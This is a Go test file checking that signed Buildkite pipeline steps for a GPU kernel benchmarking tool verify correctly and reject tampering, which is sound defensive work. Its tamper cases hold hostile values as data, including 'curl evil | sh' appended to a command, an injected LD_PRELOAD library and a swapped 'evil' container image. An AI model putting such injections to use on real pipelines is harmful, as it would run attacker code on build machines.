package pipelinegen

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/signature"
	"github.com/lestrrat-go/jwx/v3/jwk"

	"github.com/gpu-mode/kbgen/internal/contract"
	"github.com/gpu-mode/kbgen/payload"
	"github.com/gpu-mode/kbgen/registry"
	"github.com/gpu-mode/kbgen/signing"
)

const testRepo = "https://github.com/gpu-mode/kbgen.git"

// testKeys makes one key pair per test binary run; EdDSA is fast enough
// that each test can also afford its own.
func testKeys(t testing.TB, alg string) (jwk.Key, jwk.Set) {
	t.Helper()
	kp, err := signing.Generate(alg, "test-"+alg)
	if err != nil {
		t.Fatal(err)
	}
	priv, err := signing.ParsePrivate(kp.Private, "")
	if err != nil {
		t.Fatal(err)
	}
	pub, err := signing.ParsePublic(kp.Public)
	if err != nil {
		t.Fatal(err)
	}
	return priv, pub
}

func goldenFiles(t *testing.T) []string {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(goldenDir, "*", "*.yml"))
	files = append(files, filepath.Join(goldenDir, "adversarial.yml"))
	if len(files) < 50 {
		t.Fatalf("only %d golden pipelines found", len(files))
	}
	return files
}

// signedGolden reads a golden pipeline, signs it, and returns the YAML that
// would be piped into `buildkite-agent pipeline upload`, parsed back.
func signedGolden(t *testing.T, file string, key jwk.Key) *pipeline.Pipeline {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	p, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if err := Sign(context.Background(), p, key, testRepo); err != nil {
		t.Fatalf("%s: %v", file, err)
	}
	doc, err := Marshal(p)
	if err != nil {
		t.Fatal(err)
	}
	back, err := Parse(doc)
	if err != nil {
		t.Fatal(err)
	}
	return back
}

func TestSignedGoldenPipelinesVerify(t *testing.T) {
	t.Parallel()
	priv, pub := testKeys(t, signing.DefaultAlgorithm)
	for _, f := range goldenFiles(t) {
		p := signedGolden(t, f, priv)
		s := evalOf(t, p)
		if s.Signature == nil || s.Signature.Algorithm != "EdDSA" || s.Signature.Value == "" {
			t.Fatalf("%s: eval step not signed: %+v", f, s.Signature)
		}
		for _, field := range []string{"command", "env", "plugins", "repository_url"} {
			if !contains(s.Signature.SignedFields, field) {
				t.Errorf("%s: %q not among the signed fields %v", f, field, s.Signature.SignedFields)
			}
		}
		if err := Verify(context.Background(), p, pub, testRepo); err != nil {
			t.Errorf("%s: %v", f, err)
		}
	}
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

// TestTamperingBreaksSignature: each change an attacker between kbgen and
// the vendor agent might make (the Buildkite backend, a proxy, another
// vendor's bootstrap) fails verification.
func TestTamperingBreaksSignature(t *testing.T) {
	t.Parallel()
	priv, pub := testKeys(t, signing.DefaultAlgorithm)
	file := filepath.Join(goldenDir, "nvidia-h100", "leaderboard.yml")
	tampers := map[string]func(s *pipeline.CommandStep){
		"command":        func(s *pipeline.CommandStep) { s.Command = "kbgen run; curl evil | sh" },
		"plugin image":   func(s *pipeline.CommandStep) { s.Plugins[0].Config.(map[string]any)["image"] = "evil/image:latest" },
		"plugin network": func(s *pipeline.CommandStep) { s.Plugins[0].Config.(map[string]any)["network"] = "host" },
		"plugin memory":  func(s *pipeline.CommandStep) { s.Plugins[0].Config.(map[string]any)["memory"] = "2t" },
		"plugin source":  func(s *pipeline.CommandStep) { s.Plugins[0].Source = "docker#v5.12.0" },
		"extra plugin":   func(s *pipeline.CommandStep) { s.Plugins = append(s.Plugins, &pipeline.Plugin{Source: "evil#v1"}) },
		"env value":      func(s *pipeline.CommandStep) { s.Env[contract.EnvRunID] = "someone-else" },
		"env added":      func(s *pipeline.CommandStep) { s.Env["LD_PRELOAD"] = "/tmp/x.so" },
		"env removed":    func(s *pipeline.CommandStep) { delete(s.Env, contract.EnvRunID) },
		"queue in env and tags": func(s *pipeline.CommandStep) {
			s.Env[contract.EnvQueue] = "amd-mi300"
			s.RemainingFields["agents"] = map[string]any{"queue": "amd-mi300"}
		},
		"queue tag only":        func(s *pipeline.CommandStep) { s.RemainingFields["agents"] = map[string]any{"queue": "amd-mi300"} },
		"queue tag list form":   func(s *pipeline.CommandStep) { s.RemainingFields["agents"] = []any{"queue=amd-mi300"} },
		"signature stripped":    func(s *pipeline.CommandStep) { s.Signature = nil },
		"signed fields reduced": func(s *pipeline.CommandStep) { s.Signature.SignedFields = []string{"command"} },
	}
	for name, tamper := range tampers {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := signedGolden(t, file, priv)
			tamper(evalOf(t, p))
			if err := Verify(context.Background(), p, pub, testRepo); err == nil {
				t.Fatal("tampered step verified")
			}
		})
	}
	t.Run("repository", func(t *testing.T) {
		t.Parallel()
		p := signedGolden(t, file, priv)
		if err := Verify(context.Background(), p, pub, "https://github.com/evil/fork.git"); err == nil {
			t.Fatal("step signed for one repository verified for another")
		}
	})
	t.Run("untouched control", func(t *testing.T) {
		t.Parallel()
		p := signedGolden(t, file, priv)
		if err := Verify(context.Background(), p, pub, testRepo); err != nil {
			t.Fatalf("the untampered pipeline must verify, or the cases above prove nothing: %v", err)
		}
	})
}

// TestQueueIsNotASignedField pins go-pipeline's behaviour that the queue
// check above relies on: moving a step to another queue leaves its
// signature valid, so only the signed KERNELBOT_QUEUE in its env tells.
func TestQueueIsNotASignedField(t *testing.T) {
	t.Parallel()
	priv, pub := testKeys(t, signing.DefaultAlgorithm)
	p := signedGolden(t, filepath.Join(goldenDir, "nvidia-h100", "test.yml"), priv)
	s := evalOf(t, p)
	s.RemainingFields["agents"] = map[string]any{"queue": "amd-mi300"}
	if err := signature.VerifyStep(context.Background(), s, pub, testRepo); err != nil {
		t.Fatalf("go-pipeline now signs agents (good news: tighten CheckQueueBinding's docs): %v", err)
	}
	var re *ReroutedError
	if err := CheckQueueBinding(s); !errors.As(err, &re) || re.SignedFor != "nvidia-h100" || re.RoutedTo != "amd-mi300" {
		t.Fatalf("re-routed step not caught: %v", err)
	}
}

func TestWrongKeyFails(t *testing.T) {
	t.Parallel()
	priv, _ := testKeys(t, signing.DefaultAlgorithm)
	file := filepath.Join(goldenDir, "amd-mi300", "benchmark.yml")
	for _, alg := range signing.Algorithms {
		t.Run(alg, func(t *testing.T) {
			t.Parallel()
			_, otherPub := testKeys(t, alg)
			p := signedGolden(t, file, priv)
			if err := Verify(context.Background(), p, otherPub, testRepo); err == nil {
				t.Fatal("verified with a key that did not sign")
			}
		})
	}
}

// TestRotationKeySet: every algorithm signs, and one JWKS holding several
// keys (old and new during a rotation) verifies steps signed by any of them.
func TestRotationKeySet(t *testing.T) {
	t.Parallel()
	file := filepath.Join(goldenDir, "nvidia-l4", "test.yml")
	set := jwk.NewSet()
	var privs []jwk.Key
	for _, alg := range signing.Algorithms {
		priv, pub := testKeys(t, alg)
		k, _ := pub.Key(0)
		if err := set.AddKey(k); err != nil {
			t.Fatal(err)
		}
		privs = append(privs, priv)
	}
	for _, priv := range privs {
		alg, _ := priv.Algorithm()
		p := signedGolden(t, file, priv)
		if got := evalOf(t, p).Signature.Algorithm; got != alg.String() {
			t.Errorf("signature algorithm %q, want %q", got, alg)
		}
		if err := Verify(context.Background(), p, set, testRepo); err != nil {
			t.Errorf("%s-signed step does not verify against the rotation set: %v", alg, err)
		}
	}
}

// TestSignRefusesVariableReferences: a step whose meaning the uploading
// agent's environment decides cannot be signed.
func TestSignRefusesVariableReferences(t *testing.T) {
	t.Parallel()
	priv, _ := testKeys(t, signing.DefaultAlgorithm)
	for _, ref := range []string{"$BUILDKITE_AGENT_ACCESS_TOKEN", "${HOME}", "${X:-y}"} {
		p := &pipeline.Pipeline{Steps: pipeline.Steps{&pipeline.CommandStep{
			Key: contract.EvalStepKey, Command: "kbgen run", Env: map[string]string{"A": "x " + ref},
		}}}
		var ve *VariableRefError
		if err := Sign(context.Background(), p, priv, testRepo); !errors.As(err, &ve) || len(ve.Names) != 1 {
			t.Errorf("%s: got %v", ref, err)
		}
	}
}

// TestSignSurvivesAgentInterpolation is the reason Sign signs the
// interpolated copy: the adversarial run id is full of `$$`, which the
// agent turns into `$` before storing the step.
func TestSignSurvivesAgentInterpolation(t *testing.T) {
	t.Parallel()
	priv, pub := testKeys(t, signing.DefaultAlgorithm)
	p := signedGolden(t, filepath.Join(goldenDir, "adversarial.yml"), priv)
	up, err := AsUploaded(p)
	if err != nil {
		t.Fatal(err)
	}
	s := evalOf(t, up)
	if s.Env[contract.EnvRunID] != adversarialText {
		t.Fatalf("run id after upload %q", s.Env[contract.EnvRunID])
	}
	if err := signature.VerifyStep(context.Background(), s, pub, testRepo); err != nil {
		t.Fatalf("the step as the agent stores it does not verify: %v", err)
	}
	// The naive way (signing the written form) would not survive.
	raw := signedGolden(t, filepath.Join(goldenDir, "adversarial.yml"), priv)
	naive := evalOf(t, raw)
	if err := signature.SignSteps(context.Background(), raw.Steps, priv, testRepo); err != nil {
		t.Fatal(err)
	}
	naiveSig := naive.Signature
	s.Signature = naiveSig
	if err := signature.VerifyStep(context.Background(), s, pub, testRepo); err == nil {
		t.Fatal("signing the escaped form verified after interpolation; AsUploaded is pointless")
	}
}

// TestRealAgentKeepsSignatures pipes kbgen-signed golden pipelines through
// the real `buildkite-agent pipeline upload --dry-run` and verifies what the
// agent would send to Buildkite. v3.52.1 has no `tool verify`, and its own
// verification cannot check a step with a plugin (fixed in v3.53.0), so
// go-pipeline's verifier, the one newer agents use, checks its output.
func TestRealAgentKeepsSignatures(t *testing.T) {
	t.Parallel()
	agent := agentBinary(t)
	priv, pub := testKeys(t, signing.DefaultAlgorithm)
	home := t.TempDir()
	dryRun := func(t *testing.T, p *pipeline.Pipeline) *pipeline.Pipeline {
		t.Helper()
		doc, err := Marshal(p)
		if err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(agent, "pipeline", "upload", "--dry-run", "--format", "yaml")
		cmd.Stdin = strings.NewReader(string(doc))
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home, "BUILDKITE_AGENT_ACCESS_TOKEN=" + plantedToken}
		var stderr strings.Builder
		cmd.Stderr = &stderr
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("agent refused the signed pipeline: %v\n%s", err, stderr.String())
		}
		got, err := Parse(out)
		if err != nil {
			t.Fatalf("agent output does not parse: %v\n%s", err, out)
		}
		return got
	}
	verifyAsStored := func(p *pipeline.Pipeline) error {
		s, err := EvalStep(p)
		if err != nil {
			return err
		}
		if err := signature.VerifyStep(context.Background(), s, pub, testRepo); err != nil {
			return err
		}
		return CheckQueueBinding(s)
	}
	for _, f := range goldenFiles(t) {
		t.Run(strings.TrimPrefix(f, goldenDir+"/"), func(t *testing.T) {
			t.Parallel()
			stored := dryRun(t, signedGolden(t, f, priv))
			if s, _ := EvalStep(stored); s == nil || s.Signature == nil {
				t.Fatal("the agent dropped the signature")
			}
			if err := verifyAsStored(stored); err != nil {
				t.Fatalf("step as the agent uploads it does not verify: %v", err)
			}
		})
	}
	t.Run("altered before upload", func(t *testing.T) {
		t.Parallel()
		p := signedGolden(t, filepath.Join(goldenDir, "nvidia-h100", "test.yml"), priv)
		evalOf(t, p).Plugins[0].Config.(map[string]any)["image"] = "evil/image:latest"
		if err := verifyAsStored(dryRun(t, p)); err == nil {
			t.Fatal("altered step verified after the agent's upload")
		}
	})
}

// BenchmarkSignEvalStep is what signing adds to the bootstrap step: one
// eval step, signed in its uploaded form (a YAML round trip plus the
// interpolation check, then the JWS).
func BenchmarkSignEvalStep(b *testing.B) {
	for _, alg := range signing.Algorithms {
		b.Run(alg, func(b *testing.B) {
			key, _ := testKeys(b, alg)
			in, err := ExampleJob(payload.ModeLeaderboard)
			if err != nil {
				b.Fatal(err)
			}
			reg, _ := registry.Load("")
			v, _ := reg.Lookup("nvidia-h100")
			for b.Loop() {
				p, err := Generate(Job{Input: in, RunID: "run-$1", Queue: v.Queue}, v, Options{})
				if err != nil {
					b.Fatal(err)
				}
				if err := Sign(context.Background(), p, key, testRepo); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
